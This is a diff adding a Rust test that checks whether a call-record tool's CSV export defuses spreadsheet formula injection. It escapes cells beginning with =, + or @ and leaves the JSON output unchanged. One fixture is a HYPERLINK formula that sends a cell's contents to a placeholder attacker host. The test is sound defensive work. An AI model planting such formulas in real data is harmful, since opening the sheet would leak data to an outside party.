@@ -654,3 +654,41 @@ fn cdr_export_filters_on_the_end_time_and_prints_csv_or_json_lines() {
             .starts_with("{\"call_id\":\"a\",")
     );
 }
+
+#[test]
+fn cdr_export_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("cdr.db");
+    let conn = hotline::store::schema::open_for_writing(
+        &path,
+        hotline::store::schema::DEFAULT_BUSY_TIMEOUT,
+    )
+    .unwrap();
+    let note = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+    conn.execute(
+        "INSERT INTO cdr (call_id, caller, arrived_at, ended_at, disposition, category, notes)
+         VALUES ('x', '+15550001', 1, 2, 'answered', '@SUM(1+1)', ?1)",
+        [note],
+    )
+    .unwrap();
+    drop(conn);
+    let db = path.to_str().unwrap();
+    let out = run_hotline(&["cdr", "export", "--db", db]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let csv = text(&out.stdout);
+    let row = csv.split_terminator("\r\n").nth(1).unwrap();
+    assert!(
+        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""),
+        "{row}"
+    );
+    assert!(row.contains(",'+15550001,"), "{row}");
+    assert!(row.contains(",'@SUM(1+1),"), "{row}");
+    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
+
+    // JSON lines keep the values as stored.
+    let out = run_hotline(&["cdr", "export", "--db", db, "--format", "json"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let json: serde_json::Value = serde_json::from_str(text(&out.stdout).trim()).unwrap();
+    assert_eq!(json["notes"], note);
+    assert_eq!(json["caller"], "+15550001");
+}
